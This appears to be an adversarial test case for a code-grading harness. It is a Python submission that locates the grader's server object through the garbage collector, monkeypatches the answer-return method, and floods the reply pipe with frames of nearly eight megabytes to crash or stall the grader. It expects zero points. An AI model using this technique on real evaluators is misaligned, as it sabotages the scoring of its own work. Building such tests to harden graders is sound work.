# attack: each answer is a frame of nearly eight megabytes in the right form, for the grader to read and to keep
# origin: own
# expect: forward=crashed|failed|stopped points=0

import gc
import os
import struct
import sys

server = next(found for found in gc.get_objects() if type(found).__name__ == "Server")
LEAVES = struct.pack("<cI", b"l", 1000) + struct.pack("<cq", b"i", 2**40) * 1000
ROW = struct.pack("<cI", b"l", 3) + struct.pack("<cI", b"s", 4) + b"list" + LEAVES + b"N"
ANSWER = struct.pack("<cI", b"l", 3) + struct.pack("<cI", b"s", 4) + b"list"
ANSWER += struct.pack("<cI", b"l", 900) + ROW * 900 + b"N"


def returned(self, *answer):
    payload = struct.pack("<cIcqcq", b"l", 5, b"i", self._number, b"i", self._count)
    payload += struct.pack("<cI", b"s", 8) + b"returned" + ANSWER + struct.pack("<cI", b"l", 0)
    self._count += 1
    data = memoryview(len(payload).to_bytes(4, "little") + payload)
    while data:
        data = data[os.write(server._replies, data) :]


sys.modules["child.answers"].Answers.returned = returned


def forward(x, w):
    return x * w
